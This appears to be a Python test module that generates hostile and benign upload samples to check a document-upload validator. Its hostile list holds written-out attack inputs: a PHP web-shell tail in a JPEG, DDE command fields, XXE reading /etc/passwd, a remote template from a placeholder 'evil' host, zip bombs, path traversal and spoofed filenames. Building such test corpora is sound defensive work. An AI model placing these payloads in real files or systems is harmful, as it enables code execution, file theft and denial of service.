"""The upload corpus of reliability.md §5.5: what must be refused and why, what must be accepted. Made by code."""

import io
import os
import random
import re
import zipfile
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, String
from PIL import Image

from duixian.files.daemon import EICAR
from tests.files.papers import (
    DOCX_MAIN,
    a_docx,
    an_ofd,
    an_xlsx,
    docx_members,
    e_invoice,
    paragraph,
    relations,
    types,
    worksheet,
)  # fmt: skip
from tests.files.sample import (
    Sample,
    a_pdf,
    a_picture,
    a_zip,
    action,
    annotated,
    attached,
    chunk,
    plain_keys,
    saved,
)  # fmt: skip

_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
_EXE = b"MZ\x90\x00" + bytes(600)


def _catalog(**keys: object) -> bytes:
    def change(pdf: Pdf) -> None:
        for key, value in keys.items():
            pdf.Root[f"/{key}"] = value

    return a_pdf(change)


def _form(**keys: object) -> bytes:
    return _catalog(AcroForm=Dictionary({"/Fields": Array([]), **plain_keys(keys)}))


def _xref_loop() -> bytes:
    whole = a_pdf(object_stream_mode=pikepdf.ObjectStreamMode.disable)
    start = re.findall(rb"startxref\s+(\d+)", whole)[-1]
    return whole.replace(b"trailer <<", b"trailer << /Prev " + start, 1)


def _external_stream(pdf: Pdf) -> None:
    stream = pdf.make_stream(b"")
    stream.F = String("file.txt")
    pdf.Root.Extra = pdf.make_indirect(stream)


def _png(width: int, height: int, rows: bytes, *, depth: int = 8, more: bytes = b"") -> bytes:
    header = width.to_bytes(4) + height.to_bytes(4) + bytes([depth, 0, 0, 0, 0])
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + more + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")  # fmt: skip


def _huge_png() -> bytes:
    return _png(60_000, 60_000, bytes(7_501 * 100), depth=1)


def _large_png() -> bytes:
    return _png(8_000, 5_001, bytes(8_001 * 5_001))


def _animated() -> bytes:
    """A thousand frames of a million pixels, by what it says of itself."""
    return _png(1_000, 1_000, bytes(1_001_000), more=chunk(b"acTL", (1_000).to_bytes(4) + bytes(4)))


def _bad_crc() -> bytes:
    good = bytearray(a_picture("PNG"))
    good[29] ^= 1
    return bytes(good)


def _exif(text: str) -> bytes:
    exif = Image.Exif()
    exif[0x010E] = text
    return a_picture("JPEG", exif=exif)


def _symlink() -> bytes:
    members = docx_members(**{"word/media/image1.png": b"/etc/passwd"})
    return a_zip(members, attributes={"word/media/image1.png": 0o120777})


def _lying() -> bytes:
    """The directory says that a picture has 10 bytes; it has 3,000."""
    whole = bytearray(a_docx({"word/media/image1.png": b"x" * 3_000}))
    for signature, name_at, size_at in ((b"PK\x03\x04", 30, 22), (b"PK\x01\x02", 46, 24)):
        at = -1
        while (at := whole.find(signature, at + 1)) >= 0:
            if whole[at + name_at :].startswith(b"word/media/image1.png"):
                whole[at + size_at : at + size_at + 4] = (10).to_bytes(4, "little")
    return bytes(whole)


def _gap() -> bytes:
    """A second picture between the members, in no directory."""
    whole = a_docx()
    at = whole.index(b"PK\x01\x02")
    hidden = whole[:at] + _EXE + whole[at:]
    end = hidden.rindex(b"PK\x05\x06") + 16
    start = (at + len(_EXE)).to_bytes(4, "little")
    return hidden[:end] + start + hidden[end + 4 :]


def _prefixed() -> bytes:
    """A docx behind a page of script: the offsets in the directory are right, the first member is not at the start."""
    out = io.BytesIO()
    out.write(b"PK\x03\x04<script>alert(1)</script>")
    with zipfile.ZipFile(out, "a") as archive:
        for name, data in docx_members().items():
            archive.writestr(name, data)
    return out.getvalue()


def _commented() -> bytes:
    out = io.BytesIO(a_docx())
    with zipfile.ZipFile(out, "a") as archive:
        archive.comment = b"<script>alert(1)</script>"
    return out.getvalue()


def _encrypted_zip() -> bytes:
    whole = bytearray(a_docx())
    for signature, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        found = -1
        while (found := whole.find(signature, found + 1)) >= 0:
            whole[found + at] |= 1
    return bytes(whole)


def _macro() -> bytes:
    kind = "application/vnd.ms-word.document.macroEnabled.main+xml"
    return a_docx(
        {"[Content_Types].xml": types(**{"/word/document.xml": kind}), "word/vbaProject.bin": _OLE}
    )


def _field(*pieces: str) -> bytes:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return a_docx({"word/document.xml": paragraph(f'<w:fldChar w:fldCharType="begin"/>{runs}')})


def _doctype(inner: str) -> bytes:
    text = paragraph("<w:r><w:t>&a;</w:t></w:r>").decode()
    return a_docx({"word/document.xml": text.replace("?>\n", f"?>\n<!DOCTYPE x [{inner}]>\n").encode()})  # fmt: skip


_LAUGHS = '<!ENTITY a "ha">' + "".join(
    f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9)
)
_ATTACHED = relations(("attachedTemplate", "http://203.0.113.9/evil.dotm", "External"))
_CALC = Dictionary(S=Name.Launch, F=String("calc.exe"))

_PDFS = [
    ("JavaScript", "pdf-javascript", lambda: _catalog(Names=Dictionary(JavaScript=Dictionary(Names=Array([String("a"), Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))])))), ()),
    ("JavaScript in a loose object", "pdf-javascript", lambda: a_pdf(lambda pdf: pdf.make_indirect(Dictionary(JS=pdf.make_stream(b"app.alert(1)"))) and annotated(A=Dictionary(S=Name.JavaScript, JS=String("x")))(pdf)), ()),
    ("OpenAction", "pdf-open-action", lambda: _catalog(OpenAction=Dictionary(S=Name.Named, N=Name.Print)), ()),
    ("AA", "pdf-open-action", lambda: _catalog(AA=Dictionary(WC=Dictionary(S=Name.Named, N=Name.Print))), ()),
    ("Launch", "pdf-launch", lambda: a_pdf(annotated(A=_CALC)), ()),
    ("embedded exe", "pdf-attachment", lambda: a_pdf(attached("合同.exe", _EXE)), ()),
    ("embedded page of script", "pdf-attachment", lambda: a_pdf(attached("a.hta", b"<html><script>1</script></html>")), ()),
    ("embedded page of script as data", "pdf-attachment", lambda: a_pdf(attached("a.xml", b"<html xmlns='http://www.w3.org/1999/xhtml'/>")), ()),
    ("embedded data with entities", "pdf-attachment", lambda: a_pdf(attached("a.xml", e_invoice(head="<!DOCTYPE a>"))), ()),
    ("embedded file without a name", "pdf-attachment", lambda: a_pdf(lambda pdf: setattr(pdf.Root, "X", pdf.make_stream(_EXE, Type=Name.EmbeddedFile))), ()),
    ("RichMedia", "pdf-media", lambda: a_pdf(annotated(Subtype=Name.RichMedia)), ()),
    ("XFA", "pdf-xfa", lambda: _form(XFA=Array([String("template"), String("x")])), ()),
    ("SubmitForm", "pdf-submit", lambda: a_pdf(action("SubmitForm", F=String("http://203.0.113.9/"))), ()),
    ("GoToR", "pdf-external", lambda: a_pdf(action("GoToR", F=String("//203.0.113.9/share/a.pdf"))), ()),
    ("URI to file:", "pdf-external", lambda: a_pdf(action("URI", URI=String("file:///etc/passwd"))), ()),
    ("stream in another file", "pdf-external", lambda: a_pdf(_external_stream), ()),
    ("encrypted", "pdf-encrypted", lambda: a_pdf(encryption=pikepdf.Encryption(user="secret", owner="secret")), ("pdf-damaged",)),
    ("10,000 pages", "pdf-pages", lambda: a_pdf(lambda pdf: pdf.pages.extend([pdf.pages[0]] * 9_999)), ()),
    ("xref loop", "pdf-damaged", _xref_loop, ()),
    ("truncated", "pdf-damaged", lambda: a_pdf(pages=3)[:-700], ("pdf-tail",)),
    ("GIF+PDF", "content", lambda: b"GIF89a\x01\x00\x01\x00;" + a_pdf(), ("pdf-damaged",)),
    ("HTML as pdf", "content", lambda: b"<!doctype html><script>alert(1)</script>", ("pdf-damaged", "pdf-tail")),
    ("PDF+zip", "polyglot", lambda: a_pdf() + a_zip({"a.exe": _EXE}), ("pdf-tail", "pdf-damaged")),
    ("PDF+script", "pdf-tail", lambda: a_pdf() + b"<script>alert(1)</script>", ()),
]  # fmt: skip
_PICTURES = [
    ("jpg+zip", "a.jpg", "polyglot", lambda: a_picture("JPEG") + a_zip({"a.exe": _EXE}), ("image-tail",)),
    ("jpg+php tail", "a.jpg", "image-tail", lambda: a_picture("JPEG") + b"<?php system($_GET['c']); ?>", ()),
    ("jpg+half a jpg", "a.jpg", "image-tail", lambda: a_picture("JPEG") + a_picture("JPEG")[:900], ()),
    ("png+tail", "a.png", "image-tail", lambda: a_picture("PNG") + b"more", ()),
    ("png with bad CRC", "a.png", "image-damaged", _bad_crc, ()),
    ("half a jpg", "a.jpg", "image-damaged", lambda: a_picture("JPEG")[:-900], ()),
    ("animated png 1 GB", "a.png", "image-animated", _animated, ()),
    ("EXIF script", "a.jpg", "image-script", lambda: _exif("<script>alert(1)</script>"), ()),
    ("jpg that is SVG", "a.jpg", "content", lambda: b'<svg xmlns="http://www.w3.org/2000/svg"/>', ("image-damaged",)),
    ("svg", "a.svg", "extension", lambda: b'<svg xmlns="http://www.w3.org/2000/svg"/>', ()),
    ("webp", "a.webp", "extension", lambda: a_picture("WEBP"), ()),
    ("webp as jpg", "a.jpg", "content", lambda: a_picture("WEBP"), ("image-damaged",)),
    ("tiff", "a.tiff", "extension", lambda: a_picture("TIFF"), ()),
    ("heic", "a.heic", "extension", lambda: b"\x00\x00\x00\x18ftypheic" + bytes(40), ()),
    ("ico", "a.ico", "extension", lambda: a_picture("ICO"), ()),
]  # fmt: skip
_OFFICE = [
    ("docx macro", "a.docx", "office-macro", _macro, ("office-kind", "office-object", "office-part")),
    ("docx external template", "a.docx", "office-external", lambda: a_docx({"word/_rels/settings.xml.rels": _ATTACHED}), ()),
    ("link to a file", "a.docx", "office-external", lambda: a_docx({"word/_rels/document.xml.rels": relations(("hyperlink", "file:///c:/a.exe", "External"))}), ()),
    ("DDE field", "a.docx", "office-field", lambda: _field("DD", "EAUTO c:\\\\cmd.exe"), ()),
    ("DDE in a simple field", "a.docx", "office-field", lambda: a_docx({"word/document.xml": paragraph('<w:fldSimple w:instr=" DDE excel a "/>')}), ()),
    ("DDE formula", "a.xlsx", "office-field", lambda: an_xlsx({"xl/worksheets/sheet1.xml": worksheet("<c r='A1'><f>cmd|'/c calc'!A0</f></c>")}), ()),
    ("DDE link", "a.xlsx", "office-field", lambda: an_xlsx({"xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeService="cmd"/></externalLink>'}), ()),
    ("OLE object", "a.docx", "office-object", lambda: a_docx({"word/embeddings/oleObject1.bin": _OLE}), ("office-part",)),
    ("object by its relation only", "a.docx", "office-object", lambda: a_docx({"word/_rels/document.xml.rels": relations(("oleObject", "media/image1.png", ""))}), ()),
    ("document under a picture's name", "a.docx", "office-part", lambda: a_docx({"[Content_Types].xml": types(**{"/word/document.xml": DOCX_MAIN, "/word/media/image1.png": DOCX_MAIN})}), ()),
    ("unknown part", "a.docx", "office-part", lambda: a_docx({"word/media/run.ps1": b"calc"}), ()),
    ("program as picture", "a.docx", "office-part", lambda: a_docx({"word/media/image1.png": _EXE}), ()),
    ("xlsx as docx", "a.docx", "office-kind", an_xlsx, ()),
    ("xxe", "a.docx", "xml-doctype", lambda: _doctype('<!ENTITY a SYSTEM "file:///etc/passwd">'), ()),
    ("billion laughs", "a.docx", "xml-doctype", lambda: _doctype(_LAUGHS), ()),
    ("broken XML", "a.docx", "xml-damaged", lambda: a_docx({"word/styles.xml": b"<a><b></a>"}), ()),
    ("XML nested 10,000 deep", "a.docx", "xml-damaged", lambda: a_docx({"word/styles.xml": b"<a>" * 10_000 + b"</a>" * 10_000}), ()),
    ("zip bomb 200 MB", "a.docx", "zip-bomb", lambda: a_docx({"word/media/image1.bmp": bytes(200 * 1024**2)}), ()),
    ("20,000 members", "a.docx", "zip-members", lambda: a_docx({f"word/media/image{n}.png": b"" for n in range(20_000)}), ()),
    ("../", "a.docx", "zip-path", lambda: a_docx({"../../etc/cron.d/a.xml": b"<a/>"}), ()),
    ("symlink", "a.docx", "zip-symlink", _symlink, ()),
    ("absolute path", "a.docx", "zip-path", lambda: a_docx({"/etc/cron.d/a.xml": b"<a/>"}), ()),
    ("two members of one name", "a.docx", "zip-path", lambda: a_docx({"WORD/document.xml": b"<a/>"}), ()),
    ("nested zip", "a.docx", "zip-nested", lambda: a_docx({"word/media/image1.png": a_zip({"a": b"a"})}), ()),
    ("lying size", "a.docx", "zip-lying", _lying, ()),
    ("data between the members", "a.docx", "zip-layout", _gap, ()),
    ("data before the members", "a.docx", "zip-layout", _prefixed, ()),
    ("zip comment", "a.docx", "zip-layout", _commented, ()),
    ("zip with a password", "a.docx", "zip-encrypted", _encrypted_zip, ()),
    ("bzip2 members", "a.docx", "zip-method", lambda: a_zip(docx_members(), method=zipfile.ZIP_BZIP2), ("zip-lying", "xml-damaged", "office-kind")),
    ("zip without directory", "a.docx", "zip-damaged", lambda: a_docx()[:300], ("zip-layout", "office-kind")),
    ("xls legacy", "a.xls", "extension", lambda: _OLE, ()),
    ("doc legacy", "a.doc", "extension", lambda: _OLE, ()),
    ("doc renamed", "a.docx", "content", lambda: _OLE, ("zip-damaged", "zip-layout", "office-kind")),
    ("zip as ofd", "a.ofd", "ofd-root", lambda: a_zip({"a.xml": b"<a/>"}), ()),
    ("ofd with a program", "a.ofd", "ofd-part", lambda: an_ofd({"Doc_0/Attachs/a.exe": _EXE}), ()),
    ("ofd with entities", "a.ofd", "xml-doctype", lambda: an_ofd({"Doc_0/Attachs/a.xml": e_invoice(head="<!DOCTYPE a>")}), ()),
]  # fmt: skip
_OTHERS = [
    ("exe renamed", "a.pdf", "content", lambda: _EXE, ("pdf-damaged", "pdf-tail")),
    (".jpg.exe", "照片.jpg.exe", "extension", lambda: a_picture("JPEG"), ()),
    ("no extension", "合同", "extension", a_pdf, ()),
    ("XML outside its slot", "a.xml", "extension", e_invoice, ()),
    ("NUL name", "a.pdf\0.exe", "name-hidden", a_pdf, ("extension",)),
    ("RTL name", "合同\u202efdp.exe", "name-hidden", a_pdf, ("extension",)),
    ("300-byte name", "合" * 99 + ".pdf", "name-long", a_pdf, ()),
    ("no name", " / ", "name-empty", a_pdf, ("extension",)),
    ("0 byte", "a.pdf", "empty", lambda: b"", ("content", "pdf-damaged", "pdf-tail")),
    ("21 MB", "a.pdf", "size", lambda: a_pdf(lambda pdf: setattr(pdf.Root, "X", pdf.make_stream(os.urandom(21 * 1024**2)))), ()),
    ("EICAR in pdf", "a.pdf", "infected", lambda: a_pdf(lambda pdf: setattr(pdf.Root, "X", pdf.make_stream(EICAR)), compress_streams=True), ()),
    ("EICAR in docx", "a.docx", "infected", lambda: a_docx({"word/document.xml": paragraph(f"<w:r><w:t>{EICAR.decode()}</w:t></w:r>")}), ()),
]  # fmt: skip


HOSTILE = [
    *(Sample(about=about, name="证明.pdf", rule=rule, make=make, also=also) for about, rule, make, also in _PDFS),
    *(
        Sample(about=about, name=name, rule=rule, make=make, also=also)
        for about, name, rule, make, also in [*_PICTURES, *_OFFICE, *_OTHERS]
    ),
    Sample(about="png 60000×60000", name="a.png", rule="image-pixels", make=_huge_png, control=_large_png),
    Sample(about="e-invoice with entities", name="a.xml", slot="e-invoice", rule="xml-doctype", make=lambda: e_invoice(head='<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>')),
    Sample(about="e-invoice with a style sheet", name="a.xml", slot="e-invoice", rule="xml-style", make=lambda: e_invoice(head='<?xml-stylesheet href="a.xsl"?>')),
    Sample(about="e-invoice cut off", name="a.xml", slot="e-invoice", rule="xml-damaged", make=lambda: e_invoice()[:200]),
    Sample(about="e-invoice as picture", name="a.jpg", slot="e-invoice", rule="extension", make=lambda: a_picture("JPEG")),
]  # fmt: skip


def _scan() -> bytes:
    """A page as a scanner makes it: one picture."""
    pdf = Pdf.new()
    page = pdf.add_blank_page(page_size=(595, 842))
    picture = pdf.make_stream(
        a_picture("JPEG", (1240, 1754), "L"),
        Type=Name.XObject, Subtype=Name.Image, Width=1240, Height=1754, ColorSpace=Name.DeviceGray,
        BitsPerComponent=8, Filter=Name.DCTDecode,
    )  # fmt: skip
    page.Resources = Dictionary(XObject=Dictionary(Im0=picture))
    page.Contents = pdf.make_stream(b"595 0 0 842 0 0 cm /Im0 Do")
    with pdf.open_metadata() as about:
        about["pdfaid:part"] = "2"
    return saved(pdf)


def _signed(pdf: Pdf) -> None:
    """A 发票 with the tax bureau's seal: a signature field over the bytes (their value does not matter here)."""
    value = Dictionary(
        Type=Name.Sig, Filter=Name("/Adobe.PPKLite"), SubFilter=Name("/adbe.pkcs7.detached"),
        ByteRange=Array([0, 100, 200, 300]), Contents=String("\x30\x82" + "\x01" * 500),
    )  # fmt: skip
    field = Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Sig, T=String("税务局"), Rect=Array([0, 0, 0, 0]), V=value)  # fmt: skip
    pdf.Root.AcroForm = Dictionary(SigFlags=3, Fields=Array([pdf.make_indirect(field)]))
    pdf.docinfo["/InvoiceNumber"] = "26312000000012345678"


def _linked(pdf: Pdf) -> None:
    action("URI", URI=String("https://example.org/"))(pdf)
    pdf.Root.OpenAction = Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]))


def _large_pdf() -> bytes:
    noise = random.Random(7).randbytes(19 * 1024**2 + 900 * 1024)
    return a_pdf(lambda pdf: setattr(pdf.Root, "X", pdf.make_stream(noise)))


def _phone() -> bytes:
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010F] = "HUAWEI"
    return a_picture("JPEG", (4000, 3000), exif=exif, quality=90)


def _gain_map() -> bytes:
    """A phone's photo with a second picture behind it, and padding."""
    return a_picture("JPEG") + a_picture("JPEG", (64, 64)) + bytes(16)


GOOD = [
    Sample(about="scanner PDF/A", name="营业执照.pdf", make=_scan),
    Sample(about="发票 PDF with digital signature", name="发票.pdf", make=lambda: a_pdf(_signed)),
    Sample(about="audit report that may not be edited", name="审计报告.pdf", make=lambda: a_pdf(pages=30, encryption=pikepdf.Encryption(owner="cpa", user=""))),
    Sample(about="PDF with links and a first page", name="公告.pdf", make=lambda: a_pdf(_linked)),
    Sample(about="bank receipt that carries its XBRL", name="回单.pdf", make=lambda: a_pdf(attached("bker.xbrl", e_invoice()))),
    Sample(about="PDF 1.7 with object streams, linearized", name="合同.PDF", make=lambda: a_pdf(pages=5, linearize=True, object_stream_mode=pikepdf.ObjectStreamMode.generate)),
    Sample(about="19.9 MB pdf", name="专利证书合集.pdf", make=_large_pdf),
    Sample(about="phone jpeg with orientation", name="IMG_20260302.jpeg", make=_phone),
    Sample(about="phone jpeg with a second picture", name="IMG_2.JPG", make=_gain_map),
    Sample(about="progressive jpeg", name="a.jpg", make=lambda: a_picture("JPEG", (2000, 1500), progressive=True)),
    Sample(about="40 million pixels", name="large.jpg", make=lambda: a_picture("JPEG", (8000, 5000), quality=40)),
    Sample(about="grey png", name="grey.png", make=lambda: a_picture("PNG", (1000, 800), "L")),
    Sample(about="png with transparency and a text", name="章.png", make=lambda: a_picture("PNG", mode="RGBA")),
    Sample(about="WPS docx", name="合同.docx", make=a_docx),
    Sample(about="docx with a link, a page number and a picture", name="说明.docx", make=lambda: a_docx({
        "word/_rels/document.xml.rels": relations(("hyperlink", "https://example.org/", "External")),
        "word/document.xml": paragraph('<w:fldChar/><w:r><w:instrText> PAGE </w:instrText></w:r><w:r><w:t>DDE 课程</w:t></w:r>'),
        "word/media/image1.png": a_picture("PNG"),
    })),
    Sample(about="WPS xlsx with a formula", name="明细表.xlsx", make=an_xlsx),
    Sample(about="Chinese name with blanks and brackets", name="（盖章）  2026年 第一季度 租赁合同.pdf", make=a_pdf),
    Sample(about="a path before the name", name="C:\\fakepath\\发票.pdf", make=a_pdf),
    Sample(about="OFD invoice", name="发票.ofd", make=an_ofd),
    Sample(about="OFD in the slot of originals", name="发票.ofd", slot="e-invoice", make=lambda: an_ofd({"Doc_0/Attachs/original_invoice.xml": e_invoice()})),
    Sample(about="XML of a 数电票", name="dzfp_26312000000012345678.xml", slot="e-invoice", make=e_invoice),
]  # fmt: skip
